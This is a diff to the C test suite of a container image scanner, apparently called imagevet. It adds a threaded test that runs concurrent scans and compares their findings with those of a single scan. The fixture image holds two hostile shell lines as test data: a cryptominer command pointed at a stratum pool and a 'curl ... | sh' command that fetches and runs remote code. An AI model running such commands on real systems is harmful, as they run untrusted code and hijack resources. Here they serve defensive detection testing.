@@ -7,6 +7,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <pthread.h>
 #include <unistd.h>
 
 #include "imagevet/scan.h"
@@ -563,10 +564,68 @@ static void test_contents_alpine_rootfs_is_clean(void **state)
     ivet_err_release(&err);
 }
 
+/* Two scans in one process at the same time: each registers its rule
+ * catalog and removes it when it ends, while the other looks checks up
+ * (analyze/finding.c). Under the sanitizers a shared, unlocked catalog shows
+ * up here; without them the reports must still agree with a scan alone. */
+struct side_by_side {
+    const char *image;
+    size_t findings[4];
+    bool ok;
+};
+
+static void *scan_four_times(void *arg)
+{
+    struct side_by_side *x = arg;
+    x->ok = true;
+    for (int k = 0; k < 4; k++) {
+        struct ivet_scan_opts o;
+        ivet_scan_opts_init(&o);
+        o.image = x->image;
+        o.offline = true;
+        o.threads = 1;
+        struct ivet_err err = IVET_ERR_INIT;
+        struct ivet_report *r = ivet_scan(&o, &err);
+        x->ok &= r != NULL;
+        x->findings[k] = r ? r->findings.n : 0;
+        ivet_report_free(r);
+        ivet_err_release(&err);
+    }
+    return NULL;
+}
+
+static void test_contents_scans_side_by_side(void **state)
+{
+    (void)state;
+    struct img im = { .n = 1 };
+    im.t[0] = tu_tar_new();
+    FILE_(im.t[0], "opt/x/run.sh", 0755, "#!/bin/sh\n./x -o stratum+tcp://pool.example.org:3333\n");
+    FILE_(im.t[0], "opt/x/drop.sh", 0755, "#!/bin/sh\ncurl -s http://203.0.113.9/a | sh\n");
+    struct ivet_report *alone = scan(&im, plain_config, false, NULL, 1);
+    size_t want = alone->findings.n;
+    assert_non_null(find(alone, "CONT-MINER-STRATUM", "/opt/x/run.sh"));
+    ivet_report_free(alone);
+    char ref[4200];
+    snprintf(ref, sizeof(ref), "oci:%s:test", im.dir);
+    struct side_by_side a = { .image = ref }, b = { .image = ref };
+    pthread_t ta, tb;
+    assert_int_equal(pthread_create(&ta, NULL, scan_four_times, &a), 0);
+    assert_int_equal(pthread_create(&tb, NULL, scan_four_times, &b), 0);
+    pthread_join(ta, NULL);
+    pthread_join(tb, NULL);
+    assert_true(a.ok && b.ok);
+    for (int k = 0; k < 4; k++) {
+        assert_int_equal(a.findings[k], want);
+        assert_int_equal(b.findings[k], want);
+    }
+    img_free(&im);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_contents_miner_files_have_line_and_layer),
+        cmocka_unit_test(test_contents_scans_side_by_side),
         cmocka_unit_test(test_contents_hidden_file_names_both_layers),
         cmocka_unit_test(test_contents_accounts_in_final_image),
         cmocka_unit_test(test_contents_config_strings),
